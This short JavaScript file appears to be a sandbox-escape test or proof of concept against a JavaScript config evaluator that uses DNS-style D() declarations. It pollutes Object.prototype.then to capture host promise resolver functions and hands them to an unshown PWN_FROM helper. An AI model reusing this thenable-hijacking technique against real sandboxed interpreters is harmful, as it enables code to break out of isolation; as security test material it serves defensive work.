require("./lib/payload.js");
var leaked = [];
Object.prototype.then = function (res, rej) { leaked.push(res, rej); };
setTimeout(function () { D("p.example", REG, DnsProvider(DSP)); }, 1);
require("./lib/data.json");
leaked.forEach(function (v, i) { PWN_FROM(v, "then" + i); });
setTimeout(function () { leaked.forEach(function (v, i) { PWN_FROM(v, "later" + i); }); delete Object.prototype.then; }, 20);
